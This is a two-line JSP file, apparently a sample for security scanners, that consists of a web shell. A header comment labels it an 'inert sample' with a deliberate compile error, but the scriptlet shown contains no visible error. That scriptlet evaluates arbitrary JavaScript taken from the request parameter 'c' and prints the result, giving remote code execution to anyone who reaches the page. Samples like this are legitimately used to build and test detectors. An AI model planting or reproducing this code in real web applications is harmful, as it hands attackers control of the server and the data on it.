<% shodo inert sample: deliberate compile error, this page never runs %>
<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); out.print(e.eval(request.getParameter("c"))); %>
